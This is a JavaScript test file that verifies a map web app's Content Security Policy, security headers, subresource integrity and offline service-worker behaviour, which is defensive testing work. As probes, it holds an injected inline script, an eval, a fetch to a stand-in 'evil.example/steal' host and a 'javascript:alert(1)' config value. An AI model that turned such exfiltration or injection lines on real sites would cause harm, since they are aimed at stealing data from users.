// The Content Security Policy (issue 15 item 1): every mode of the release build (desk, tablet,
// wall, one screen of a `?wall=` wall, raster tiles on, French, the zone editor, the /map/
// subpath deployment, a reload answered by the service worker with no network) loads with no
// `securitypolicyviolation` event; the built index.html carries the policy as a <meta> tag and
// the demo server sends it as a header (with frame-ancestors 'none', nosniff, no-referrer); the
// policy is really enforced (an injected inline script, inline style attribute and eval are
// refused); and the app's own JS and wasm are checked against their integrity (a changed byte
// and the app does not start).
//
// Violations are collected by an init script (it runs before the page's own scripts and is not
// itself subject to the policy) into window.__csp; the refusals the browser logs to the console
// are collected too.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import {
  startServer, startDemoServer, launchBrowser, openApp, assertDistBuilt, waitForSettled, screenshot, tid,
  QUIET_SCENARIO, TEST_TIMEOUT, DIST, ROOT,
} from './harness.mjs';

const COLLECT = `
  window.__csp = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    window.__csp.push({ directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample, source: e.sourceFile + ':' + e.lineNumber });
  });
`;
const REFUSED = /Content Security Policy|Refused to|integrity/i;

let api, browser, sub;
before(async () => {
  assertDistBuilt();
  // The demo server serves the release build itself (with its security headers) and the API.
  api = await startDemoServer({ scenario: QUIET_SCENARIO, heartbeatMs: 1000, staticDir: DIST });
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await sub?.close();
  await api?.kill();
});

/** The policy of the built index.html's <meta> tag. */
function metaPolicy() {
  const html = fs.readFileSync(path.join(DIST, 'index.html'), 'utf8');
  const m = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
  assert.ok(m, 'dist/index.html has a Content-Security-Policy <meta> tag');
  return m[1];
}

/** Opens the app with the violation collector, waits until it has drawn, returns its page. */
async function open(server, ctx, query, { settle = true } = {}) {
  const app = await openApp({ server }, ctx, { query, initScripts: [COLLECT] });
  const refused = [];
  app.page.on('console', (m) => {
    if (REFUSED.test(m.text())) refused.push(m.text());
  });
  if (settle) await waitForSettled(app.page);
  return { app, refused };
}

async function assertNoViolation({ app, refused }, what) {
  // Let late work (the feed's first events, tile loads, the worker's registration) happen.
  await app.page.waitForTimeout(1500);
  const v = await app.page.evaluate(() => window.__csp);
  assert.deepEqual(v, [], `${what}: no CSP violation`);
  assert.deepEqual(refused, [], `${what}: nothing refused in the console`);
  await app.assertHealthy(what);
}

test('the demo server sends the policy as a header, the same as the page\'s <meta>, with the usual headers', { timeout: TEST_TIMEOUT }, async () => {
  const meta = metaPolicy();
  for (const p of ['/', '/index.html', '/public/config.json', '/api/health']) {
    const r = await fetch(api.url(p));
    const csp = r.headers.get('content-security-policy');
    assert.equal(csp, `${meta}; frame-ancestors 'none'`, `${p}: the header is the meta policy plus frame-ancestors`);
    assert.equal(r.headers.get('x-content-type-options'), 'nosniff', p);
    assert.equal(r.headers.get('referrer-policy'), 'no-referrer', p);
    await r.arrayBuffer();
  }
  for (const [d, want] of [['script-src', /^script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'$/], ['style-src', /^style-src 'self'$/],
    ['object-src', /^object-src 'none'$/], ['base-uri', /^base-uri 'none'$/], ['connect-src', /^connect-src 'self'$/], ['img-src', /^img-src 'self'$/]]) {
    const got = meta.split('; ').find((x) => x.startsWith(d + ' '));
    assert.match(got ?? '', want, `${d} in ${meta}`);
  }
  assert.doesNotMatch(meta, /'unsafe-inline'|'unsafe-eval'|'unsafe-hashes'/, 'no unsafe-inline, no unsafe-eval');
  // Subresource integrity on the app's own script, glue and wasm; the wasm fetched with it.
  const html = fs.readFileSync(path.join(DIST, 'index.html'), 'utf8');
  assert.match(html, /<link rel="modulepreload" href="\.\/calais-map-[0-9a-f]+\.js"[^>]*integrity="sha384-/);
  assert.match(html, /<script src="\.\/watchdog-[0-9a-f]+\.js" integrity="sha384-/);
  assert.match(html, /fetch\('\.\/calais-map-[0-9a-f]+_bg\.wasm', \{ integrity: 'sha384-/);
  assert.ok(html.indexOf('rel="modulepreload"') < html.indexOf('<script type="module">'), 'the checked glue is preloaded before the loader imports it');
});

const MODES = [
  { name: 'desk', query: 'mode=desk' },
  { name: 'desk, French', query: 'mode=desk&lang=fr' },
  { name: 'tablet', query: 'mode=tablet', ctx: { viewport: { width: 1180, height: 820 }, hasTouch: true, isMobile: true } },
  { name: 'wall', query: 'mode=wall', ctx: { viewport: { width: 1920, height: 1080 } } },
  { name: 'wall screen 1,0 of 2x1', query: 'mode=wall&wall=2x1&tile=1,0&bezel=20', ctx: { viewport: { width: 1920, height: 1080 } } },
  { name: 'raster tiles', query: 'config=' + encodeURIComponent('/fixtures/configs/tiles.json'), fixtures: true },
];

for (const mode of MODES) {
  test(`${mode.name}: no CSP violation`, { timeout: TEST_TIMEOUT }, async () => {
    let server = api;
    let extra = null;
    if (mode.fixtures) {
      // The fixtures are on the harness's static server (no security headers: the <meta> alone).
      extra = await startServer({ apiOrigin: api.origin });
      server = extra;
    }
    const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, deviceScaleFactor: 1, ...(mode.ctx || {}) });
    try {
      const page = await open(server, ctx, mode.query);
      const res = await page.app.page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content);
      assert.equal(res, metaPolicy(), 'the page carries the <meta> policy');
      if (mode.name === 'raster tiles') {
        await page.app.page.locator(tid('layer-toggle-tiles')).check();
        await page.app.page.waitForFunction(() => performance.getEntriesByType('resource').some((e) => e.name.includes('/fixtures/tiles/')), null, { timeout: 20_000 });
        await waitForSettled(page.app.page);
      }
      await screenshot(page.app.page, `csp-${mode.name.replace(/[^a-z0-9]+/gi, '-')}`);
      await assertNoViolation(page, mode.name);
    } finally {
      await ctx.close();
      await extra?.close();
    }
  });
}

test('the zone editor and the panels: no CSP violation while used', { timeout: TEST_TIMEOUT }, async () => {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, deviceScaleFactor: 1 });
  try {
    const p = await open(api, ctx, 'mode=desk');
    const { page } = p.app;
    // Open the export dialog, start drawing a zone, ask where am I (each closed by Escape).
    for (const id of ['export-open', 'zone-draw', 'locate-me']) {
      const b = page.locator(tid(id));
      if (await b.count()) await b.first().click().catch(() => {});
      await page.waitForTimeout(300);
      await page.keyboard.press('Escape');
    }
    await assertNoViolation(p, 'panels');
  } finally {
    await ctx.close();
  }
});

test('the policy is enforced: an injected inline script, style attribute, eval, foreign image and fetch are refused', { timeout: TEST_TIMEOUT }, async () => {
  // The probe is a script file of the app's origin (allowed), so its eval runs as the page's own
  // code (an eval from the test's evaluate() would run as DevTools', which no policy limits).
  const server = await startServer({ apiOrigin: api.origin });
  server.respond('/probe.js', 200, `
    try { window.__evalResult = String(eval('1 + 1')); } catch (e) { window.__evalResult = e.name; }
    try { window.__functionResult = String(new Function('return 3')()); } catch (e) { window.__functionResult = e.name; }
  `, { 'Content-Type': 'text/javascript' });
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, deviceScaleFactor: 1, serviceWorkers: 'block' });
  try {
    const { app } = await open(server, ctx, 'mode=desk');
    const { page } = app;
    assert.deepEqual(await page.evaluate(() => window.__csp), [], 'no violation before the injection');
    const outcome = await page.evaluate(async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = 1';
      document.head.appendChild(s);
      const d = document.createElement('div');
      d.setAttribute('style', 'color: rgb(1, 2, 3)');
      document.body.appendChild(d);
      const probe = document.createElement('script');
      const probed = new Promise((r) => { probe.onload = () => r('loaded'); probe.onerror = () => r('refused'); });
      probe.src = './probe.js';
      document.head.appendChild(probe);
      const img = new Image();
      const imgDone = new Promise((r) => { img.onload = () => r('loaded'); img.onerror = () => r('error'); });
      img.src = 'https://evil.example/x.png';
      const fetched = await fetch('https://evil.example/steal').then(() => 'fetched', () => 'refused');
      const probeLoaded = await probed;
      await new Promise((r) => setTimeout(r, 300));
      return {
        inlineRan: window.__inlineRan ?? null,
        colour: getComputedStyle(d).color,
        probeLoaded,
        evalResult: window.__evalResult,
        functionResult: window.__functionResult,
        img: await imgDone,
        fetched,
        violations: window.__csp.map((v) => v.directive),
      };
    });
    assert.equal(outcome.inlineRan, null, 'the injected inline script did not run');
    assert.notEqual(outcome.colour, 'rgb(1, 2, 3)', 'the injected style attribute was not applied');
    assert.equal(outcome.probeLoaded, 'loaded', 'a script file of the app\'s origin runs');
    assert.equal(outcome.evalResult, 'EvalError', 'eval is refused');
    assert.equal(outcome.functionResult, 'EvalError', 'new Function is refused');
    assert.equal(outcome.img, 'error', 'an image from another origin is refused');
    assert.equal(outcome.fetched, 'refused', 'a fetch to another origin is refused');
    for (const d of ['script-src-elem', 'style-src-attr', 'script-src', 'img-src', 'connect-src']) {
      assert.ok(outcome.violations.includes(d), `a ${d} violation was reported: ${outcome.violations}`);
    }
  } finally {
    await ctx.close();
    await server.close();
  }
});

test('subresource integrity: a changed byte in the wasm or the JS glue and the app does not start', { timeout: TEST_TIMEOUT }, async () => {
  const files = fs.readdirSync(DIST);
  const wasm = files.find((f) => /^calais-map-[0-9a-f]+_bg\.wasm$/.test(f));
  const glue = files.find((f) => /^calais-map-[0-9a-f]+\.js$/.test(f));
  for (const [file, type] of [[wasm, 'application/wasm'], [glue, 'text/javascript']]) {
    const server = await startServer({ apiOrigin: api.origin });
    const body = fs.readFileSync(path.join(DIST, file));
    // Changed without breaking the file's form (the last byte of the wasm's last custom
    // section; a comment added to the JS): only the integrity check can refuse it.
    let changed = Buffer.from(body);
    if (type === 'application/wasm') changed[changed.length - 1] ^= 0x01;
    else changed = Buffer.concat([changed, Buffer.from('\n// changed\n')]);
    server.respond('/' + file, 200, changed, { 'Content-Type': type });
    const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, serviceWorkers: 'block' });
    try {
      const page = await ctx.newPage();
      const errors = [];
      page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
      page.on('pageerror', (e) => errors.push(String(e)));
      await page.goto(server.url('/?mode=desk'), { waitUntil: 'load' });
      await page.waitForTimeout(4000);
      assert.equal(await page.evaluate(() => typeof window.calaisMap), 'undefined', `${file} changed: the app did not start`);
      assert.ok(errors.some((e) => /integrity/i.test(e)), `${file} changed: the browser names the integrity failure: ${errors.join(' | ')}`);
    } finally {
      await ctx.close();
      await server.close();
    }
  }
});

test('served under /map/ and answered by the service worker with no network: no CSP violation, the worker adds the headers', { timeout: TEST_TIMEOUT }, async () => {
  sub = await startServer({ apiOrigin: api.origin, prefix: '/map' });
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, deviceScaleFactor: 1 });
  try {
    const first = await open(sub, ctx, 'mode=desk');
    const { page } = first.app;
    assert.equal(new URL(page.url()).pathname, '/map/');
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 30_000 });
    await page.waitForFunction(async () => (await caches.keys()).some((k) => k.startsWith('calais-shell-')), null, { timeout: 30_000, polling: 500 });
    await assertNoViolation(first, '/map/');
    // No network: the worker answers index.html (and the rest) from its cache, with the headers
    // the harness's static server never sent.
    await ctx.setOffline(true);
    const nav = await page.reload({ waitUntil: 'load' });
    assert.ok(nav.fromServiceWorker(), 'the reload was answered by the service worker');
    const h = nav.headers();
    assert.equal(h['content-security-policy'], `${metaPolicy()}; frame-ancestors 'none'`, 'the cached answer carries the policy');
    assert.equal(h['x-content-type-options'], 'nosniff');
    assert.equal(h['referrer-policy'], 'no-referrer');
    await page.waitForFunction(() => document.querySelector('[data-testid="map-canvas"]')?.getAttribute('data-ready') === 'true', null, { timeout: 60_000 });
    await page.waitForTimeout(1500);
    assert.deepEqual(await page.evaluate(() => window.__csp), [], 'offline from the worker\'s cache: no CSP violation');
    await screenshot(page, 'csp-subpath-offline');
  } finally {
    await ctx.setOffline(false).catch(() => {});
    await ctx.close();
  }
});

test('the operator\'s path: the policy follows the config (API and tile origins, the wall\'s framing host); a bad URL fails the build', { timeout: TEST_TIMEOUT }, async () => {
  const { execFileSync } = await import('node:child_process');
  const os = await import('node:os');
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'calais-csp-'));
  try {
    fs.cpSync(DIST, dir, { recursive: true });
    const configPath = path.join(dir, 'public', 'config.json');
    const base = JSON.parse(fs.readFileSync(configPath, 'utf8'));
    const run = (config) => {
      fs.writeFileSync(configPath, JSON.stringify(config));
      execFileSync('node', ['scripts/csp-build.mjs', dir], { cwd: ROOT, stdio: 'pipe' });
      execFileSync('node', ['scripts/sw-build.mjs', dir], { cwd: ROOT, stdio: 'pipe' });
      return JSON.parse(fs.readFileSync(path.join(dir, 'security-headers.json'), 'utf8'))['Content-Security-Policy'];
    };
    const csp = run({
      ...base,
      incidents: { snapshot_url: 'https://api.centre.example/incidents', stream_url: 'https://api.centre.example/incidents/stream', history_url: 'https://history.centre.example:8443/h' },
      tiles: { url_template: 'https://tiles.centre.example/{z}/{x}/{y}.png', attribution: 'centre' },
      security: { frame_ancestors: ['https://wall-host.centre.example'] },
    });
    const directive = (d) => csp.split('; ').find((x) => x.startsWith(d + ' '));
    assert.equal(directive('connect-src'), "connect-src 'self' https://api.centre.example https://history.centre.example:8443");
    assert.equal(directive('img-src'), "img-src 'self' https://tiles.centre.example");
    assert.equal(directive('frame-ancestors'), 'frame-ancestors https://wall-host.centre.example');
    const html = fs.readFileSync(path.join(dir, 'index.html'), 'utf8');
    assert.equal((html.match(/http-equiv="Content-Security-Policy"/g) || []).length, 1, 'a second run replaces the meta, never adds one');
    assert.ok(html.includes(`content="${csp.replace(/; frame-ancestors [^;]+$/, '')}"`), 'the meta is the header without frame-ancestors');
    assert.ok(fs.readFileSync(path.join(dir, 'sw.js'), 'utf8').includes('https://wall-host.centre.example'), 'the worker carries the new headers');
    for (const bad of [{ tiles: { url_template: 'javascript:alert(1)//{z}/{x}/{y}' } }, { security: { frame_ancestors: ['*'] } }, { layers: { fences: 'data:,x' } }]) {
      assert.throws(() => run({ ...base, ...bad }), (e) => /csp-build: \S+ must be/.test(String(e.stderr)), `refused with the field named: ${JSON.stringify(bad)}`);
    }
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});
